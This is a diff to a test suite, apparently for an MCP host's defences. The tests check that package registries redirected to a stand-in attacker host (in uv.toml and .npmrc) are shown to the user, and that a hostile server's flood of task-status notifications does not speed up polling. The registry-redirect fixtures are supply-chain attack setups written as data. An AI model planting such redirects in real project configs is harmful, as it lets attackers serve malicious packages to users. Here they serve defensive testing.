@@ -10,6 +10,8 @@ import { ToolChoiceStore } from '../../src/core/features/tools/toolChoiceStore.l
 import { switchedOff } from '../../src/core/features/tools/toolSwitches';
 import type { RawServer } from '../../src/core/config/serverDefinition';
 import { MemoryStore, stdio } from './hostTestKit';
+import { ToolTasks } from '../../src/core/features/tasks/toolTasks.lazy';
+import type { ServerSession, TaskRequests } from '../../src/core/host/serverSession';
 
 describe('attacks, round 3', function () {
   this.timeout(30_000);
@@ -44,6 +46,13 @@ describe('attacks, round 3', function () {
       fs.writeFileSync(path.join(dir, 'uv.toml'), 'extra-index-url = [\n  "https://pypi.org/simple?token=none", "https://packages.attacker.example/simple",\n]\n');
       const text = shown('uvx', ['some-mcp-server']);
       assert.ok(text.includes('packages.attacker.example'), `the index uv installs from is shown: ${text}`);
+    });
+
+    it('.npmrc: the registry of a scope whose name contains "auth" (@auth0:registry=) is not a secret: it is shown', () => {
+      // npx -y @auth0/auth0-mcp-server fetches the package from the scope's registry: the attacker's.
+      fs.writeFileSync(path.join(dir, '.npmrc'), '@auth0:registry=https://registry.attacker.example/\n');
+      const text = shown('npx', ['-y', '@auth0/auth0-mcp-server']);
+      assert.ok(text.includes('registry.attacker.example'), `the scope's registry is shown: ${text}`);
     });
 
     it('the masked registry of a flow mapping changed later is a change of the question (not trusted as before)', () => {
@@ -144,6 +153,40 @@ describe('attacks, round 3', function () {
       // notifications/tools/list_changed: the server now offers one more tool.
       const server = { scope, definition, toolChoices: store.of('ws::hostile', scope) };
       assert.strictEqual(switchedOff(server, 'delete_everything'), 'user', 'a new tool of a server switched off is not offered or callable');
+    });
+  });
+
+  describe('task polling', () => {
+    it('a server pushing task statuses in a loop does not make the host poll faster than its minimum interval', async () => {
+      let gets = 0;
+      let done = false;
+      const listeners: ((task: never) => void)[] = [];
+      const task = (status: string) => ({ taskId: 't1', status, ttl: 60_000, pollInterval: 1000, createdAt: new Date().toISOString(), lastUpdatedAt: new Date().toISOString() });
+      const requests = {
+        anyCall: true,
+        callTool: async () => ({ task: task('working') }),
+        get: async () => (gets++, task(done ? 'completed' : 'working')),
+        result: async () => ({ content: [{ type: 'text', text: 'done' }] }),
+        cancel: async () => task('cancelled'),
+        list: async () => ({ tasks: [] }),
+        onStatus: (listener: (task: never) => void) => (listeners.push(listener), { dispose: () => listeners.splice(listeners.indexOf(listener), 1) }),
+      } as unknown as TaskRequests;
+      const session = { serverId: 'ws::hostile', serverName: 'hostile', tasks: requests, capabilities: {} } as unknown as ServerSession;
+      const tasks = new ToolTasks({ minPollMs: 100 });
+      const running = tasks.run(session, { tool: { name: 'slow', inputSchema: { type: 'object' } }, arguments: {}, origin: 'a test' });
+      const started = Date.now();
+      // The server floods notifications/tasks/status ("still working", each with another message) for 300 ms.
+      for (let n = 0; Date.now() - started < 300; n++) {
+        for (const l of [...listeners]) l({ ...task('working'), statusMessage: `step ${n}` } as never);
+        await new Promise((resolve) => setImmediate(resolve));
+      }
+      const polled = gets;
+      done = true;
+      for (const l of [...listeners]) l(task('working') as never);
+      await running;
+      tasks.dispose();
+      // At most one poll per 100 ms (the minimum interval), and a few for the timing: not one per notification.
+      assert.ok(polled <= 6, `tasks/get was sent ${polled} times in 300 ms`);
     });
   });
 });
